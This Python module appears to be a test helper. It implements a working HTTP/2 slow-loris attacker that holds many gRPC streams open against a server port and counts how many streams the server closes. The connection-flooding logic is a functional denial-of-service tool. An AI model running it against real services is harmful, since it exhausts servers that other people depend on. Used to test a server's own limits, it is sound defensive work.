"""A raw HTTP/2 client that plays the slow-loris attacker against a gRPC port.

It opens TLS connections (ALPN h2) from a chosen loopback source address, sends the
HEADERS of many gRPC calls and never their request message, answers the server's
SETTINGS and PINGs like a well-behaved peer (so only the server's own limits can end the
calls), and counts the streams the server closes. No gRPC library is involved: the
attack is the bytes on the wire.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct
import threading
from dataclasses import dataclass, field

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def _literal(name: str, value: str) -> bytes:
    """HPACK literal header field without indexing, new name, no Huffman."""
    n, v = name.encode(), value.encode()
    assert len(n) < 127 and len(v) < 127
    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v


def grpc_headers(path: str, authority: str) -> bytes:
    return b"".join(_literal(k, v) for k, v in (
        (":method", "POST"), (":scheme", "https"), (":path", path),
        (":authority", authority), ("content-type", "application/grpc"), ("te", "trailers")))


@dataclass
class SlowLoris:
    host: str
    port: int
    source: str                   # e.g. "127.0.0.2": the attacker's own address
    connections: int = 33
    streams_per_connection: int = 16
    path: str = "/sisguard.v1.Enrollment/Enroll"
    opened: int = 0
    closed: int = 0               # streams the server ended (RST_STREAM or END_STREAM)
    goaways: int = 0
    _socks: list[ssl.SSLSocket] = field(default_factory=list)
    _threads: list[threading.Thread] = field(default_factory=list)
    _lock: threading.Lock = field(default_factory=threading.Lock)
    _stop: threading.Event = field(default_factory=threading.Event)

    def start(self) -> None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE   # the attacker needs no trust, only the port
        context.set_alpn_protocols(["h2"])
        block = grpc_headers(self.path, f"localhost:{self.port}")
        for _ in range(self.connections):
            raw = socket.create_connection((self.host, self.port), timeout=10,
                                           source_address=(self.source, 0))
            tls = context.wrap_socket(raw, server_hostname="localhost")
            tls.settimeout(0.5)
            out = [PREFACE, frame(SETTINGS, 0, 0)]
            out += [frame(HEADERS, END_HEADERS, 2 * i + 1, block)
                    for i in range(self.streams_per_connection)]
            tls.sendall(b"".join(out))
            with self._lock:
                self.opened += self.streams_per_connection
            self._socks.append(tls)
            thread = threading.Thread(target=self._read, args=(tls,), daemon=True,
                                      name="slowloris")
            thread.start()
            self._threads.append(thread)

    def _read(self, tls: ssl.SSLSocket) -> None:
        buffer = b""
        ended: set[int] = set()
        while not self._stop.is_set():
            try:
                chunk = tls.recv(65536)
            except (TimeoutError, ssl.SSLWantReadError):
                continue
            except OSError:
                return
            if not chunk:
                return
            buffer += chunk
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                kind, flags = buffer[3], buffer[4]
                stream = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
                payload = buffer[9:9 + length]
                buffer = buffer[9 + length:]
                try:
                    if kind == SETTINGS and not flags & ACK:
                        tls.sendall(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        tls.sendall(frame(PING, ACK, 0, payload))
                except OSError:
                    return
                if kind == GOAWAY:
                    with self._lock:
                        self.goaways += 1
                ends = kind == RST_STREAM or (kind in (HEADERS, DATA) and flags & END_STREAM)
                if ends and stream and stream not in ended:
                    ended.add(stream)
                    with self._lock:
                        self.closed += 1

    def stop(self) -> None:
        self._stop.set()
        for tls in self._socks:
            with contextlib.suppress(OSError):
                tls.close()
        for thread in self._threads:
            thread.join(timeout=5)
